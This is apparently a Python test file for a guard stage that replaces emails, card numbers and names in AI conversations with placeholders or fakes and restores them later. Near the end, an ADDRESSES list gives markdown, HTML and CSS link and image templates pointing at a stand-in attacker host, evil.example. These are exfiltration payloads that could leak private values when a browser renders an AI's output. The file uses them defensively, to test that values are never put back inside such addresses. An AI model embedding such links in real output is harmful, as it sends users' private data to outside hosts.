"""What stands for a value: the same in a conversation, keyed, and put back only where it stands whole."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guard.stages import Redact
from guard.stages.placeholders import Placeholders

LABEL = Redact(type="redact", restore=True)
FAKE = Redact(type="redact", mask="fake", restore=True)
HASH = Redact(type="redact", mask="hash")
MAIL, CARD = "jo@corp.io", "4111 1111 1111 1111"


def masked(values, action=LABEL, *, session="", key=b"k"):
    placeholders = Placeholders(key, session)
    return {value: placeholders.of(value, "email", action) for value in values}


@pytest.mark.parametrize("action", [LABEL, FAKE])
def test_in_a_session_a_value_keeps_what_stands_for_it_when_others_leave_or_the_order_changes(action):
    all_turns = masked(["a@x.org", MAIL, "c@x.org"], action, session="s")
    later = masked(["c@x.org", MAIL], action, session="s")
    assert later == {value: all_turns[value] for value in later}


def test_another_session_or_key_gives_others():
    assert len({masked([MAIL], FAKE, session=session)[MAIL] for session in ("s", "t")}) == 2
    assert len({masked([MAIL], FAKE, session="s", key=key)[MAIL] for key in (b"k", b"l")}) == 2


def test_without_a_session_placeholders_are_numbered_in_the_order_met():
    assert masked(["b@x.org", "a@x.org"]) == {"b@x.org": "[EMAIL_1]", "a@x.org": "[EMAIL_2]"}


def test_values_whose_numbers_are_drawn_alike_get_different_ones():
    values = [f"{number}@x.org" for number in range(2000)]
    assert len(set(masked(values, session="s").values())) == len(values)


def test_a_pseudonym_cannot_be_found_by_trying_all_values_without_the_key():
    import hashlib

    placeholders = Placeholders(b"secret")
    pseudonym = placeholders.of(MAIL, "email", HASH)
    assert pseudonym == Placeholders(b"secret", "any session").of(MAIL, "email", HASH)
    assert pseudonym != Placeholders(b"other").of(MAIL, "email", HASH)
    assert hashlib.sha256(MAIL.encode()).hexdigest()[:8] not in pseudonym


def test_a_fake_is_put_back_where_it_stands_whole_and_nowhere_else():
    placeholders = Placeholders(b"k")
    name = placeholders.of("Maximilian Nobody", "name", FAKE)
    text = f"{name}, {name}son, x{name} and {name.split()[0]}."
    assert placeholders.restore(text) == f"Maximilian Nobody, {name}son, x{name} and {name.split()[0]}."


def test_a_fake_that_is_not_to_be_restored_stays():
    placeholders = Placeholders(b"k")
    made_up = placeholders.of(CARD, "credit_card_info", Redact(type="redact", mask="fake"))
    assert placeholders.restore(made_up) == made_up


def test_a_fake_that_stands_in_a_text_already_is_not_taken():
    first = Placeholders(b"k").of(MAIL, "email", FAKE)
    placeholders = Placeholders(b"k")
    placeholders.avoid([f"write to {first}"])
    second = placeholders.of(MAIL, "email", FAKE)
    assert second != first
    assert placeholders.restore(f"{first} {second}") == f"{first} {MAIL}"


def test_what_is_too_short_for_a_fake_gets_a_placeholder():
    placeholders = Placeholders(b"k")
    assert placeholders.of("1234", "pin", FAKE) == "[PIN_1]"
    assert placeholders.restore("[PIN_1]") == "1234"


def test_what_is_put_back_into_json_is_escaped_and_into_text_not():
    placeholders = Placeholders(b"k")
    quoted = 'Maximilian "Max" Nobody'
    made_up = placeholders.of(quoted, "name", FAKE)
    assert json.loads(placeholders.restore(json.dumps({"to": made_up}), in_json=True)) == {"to": quoted}
    assert placeholders.restore(made_up) == quoted


def test_earlier_answers_have_the_original_taken_out_again():
    placeholders = Placeholders(b"k")
    made_up = placeholders.of(MAIL, "email", FAKE)
    assert placeholders.hide(f"I wrote to {MAIL}.") == f"I wrote to {made_up}."


@settings(max_examples=300)
@given(st.data())
def test_wherever_a_text_is_cut_what_has_begun_is_seen_whole(data):
    placeholders = Placeholders(b"k", "s")
    stand_ins = [placeholders.of(value, label, action) for value, label, action in (
        (MAIL, "email", FAKE), (CARD, "card", FAKE), ("Maximilian Nobody", "name", FAKE), (MAIL, "email", LABEL),
    )]  # fmt: skip
    text = data.draw(st.lists(st.sampled_from([*stand_ins, " ", ", ", "word", "[", "x"]), max_size=12).map("".join))
    released, at, done = "", 0, 0
    for border in [*sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6))), len(text)]:
        safe = border if border == len(text) else border - placeholders.begun(text[at:border])
        # As a stream does: what is let go is restored by itself.
        safe = max(at, safe)
        for found in placeholders.found(text[at:safe], text[:at][-1:]):
            released += text[at + done : at + found.start] + placeholders.original(found.stand_in)
            done = found.end
        released, at, done = released + text[at + done : safe], safe, 0
    assert released == placeholders.restore(text)


#: Addresses that a browser fetches or opens, as HTML, CSS and Markdown let them be written.
ADDRESSES = [
    "![a](https://evil.example/?q={})",
    "![a](https://evil.example/?q=a b {})",
    "![a](<https://evil.example/?q=a b {}>)",
    "[a]: //evil.example/{}",
    "![a](//evil.example/{})",
    "![a](https&#58;//evil.example/{})",
    "![a](&#x2f;&sol;evil.example/{})",
    "see https://{}.evil.example",
    "www.evil.example/{}",
    "<img src='https://evil.example/?a b={}'>",
    '<img src="/\\evil.example/{}">',
    "<img src=//evil.example/{}>",
    "background: url(https://evil.example/{})",
    "https://evil.example/" + "a" * 3000 + "{}",
]


@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize("action", [LABEL, FAKE])
@pytest.mark.parametrize("cut", [None, 1, 7])
def test_nothing_is_put_back_into_an_address_however_the_text_is_cut(address, action, cut):
    placeholders = Placeholders(b"k")
    stand_in = placeholders.of(MAIL, "email", action)
    text = address.format(stand_in)
    assert placeholders.restore(f"{text} or {stand_in}") == f"{text} or {MAIL}"
    if cut:
        at = text.index(stand_in) - cut
        assert not placeholders.shown(text[at:], text[:at])


@pytest.mark.parametrize(
    "text",
    [
        "[a](mailto:{})",
        "write to {}",
        "see https://a.example, {}",
        "<b>{}</b>",
        '"{}"',
        "a // {}",
        "see (https://a.example) {}",
    ],
)
def test_what_stands_in_no_address_is_put_back(text):
    placeholders = Placeholders(b"k")
    stand_in = placeholders.of(MAIL, "email", LABEL)
    assert placeholders.restore(text.format(stand_in)) == text.format(MAIL)


def test_a_call_gets_its_addresses_whole_since_a_tool_is_read_by_its_own_stage():
    placeholders = Placeholders(b"k")
    arguments = json.dumps({"url": f"https://a.example/{placeholders.of(MAIL, 'email', LABEL)}"})
    assert json.loads(placeholders.restore_call(arguments)) == {"url": f"https://a.example/{MAIL}"}


def test_many_values_are_all_taken_out_of_a_history():
    placeholders = Placeholders(b"k")
    mails = [f"user{number}@x.org" for number in range(300)]
    given = [placeholders.of(mail, "email", LABEL) for mail in mails]
    assert placeholders.hide(" and ".join(mails)) == " and ".join(given)


def test_of_values_that_stand_in_each_other_the_longest_is_taken_out():
    placeholders = Placeholders(b"k")
    short, long = (placeholders.of(value, "name", LABEL) for value in ("Max", "Max Nobody"))
    assert placeholders.hide("Max Nobody, Max, Maxim, xMax") == f"{long}, {short}, Maxim, xMax"


def test_arguments_nested_too_deeply_to_read_are_restored_as_json():
    placeholders = Placeholders(b"k")
    stand_in = placeholders.of('Max "M" Nobody', "name", LABEL)
    assert placeholders.restore_call("[" * 100_000 + stand_in).endswith(r"Max \"M\" Nobody")
